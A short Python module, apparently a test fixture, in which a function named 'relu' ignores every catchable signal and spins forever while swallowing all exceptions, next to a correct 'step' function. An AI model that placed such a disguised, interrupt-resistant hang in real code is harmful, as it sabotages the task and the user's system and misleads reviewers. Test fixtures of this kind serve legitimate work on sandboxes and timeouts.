"""Computes for ever, ignores every signal and catches everything."""

import signal

import numpy as np


def relu(z):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


def step(z):
    return np.where(z > 0, 1.0, 0.0)
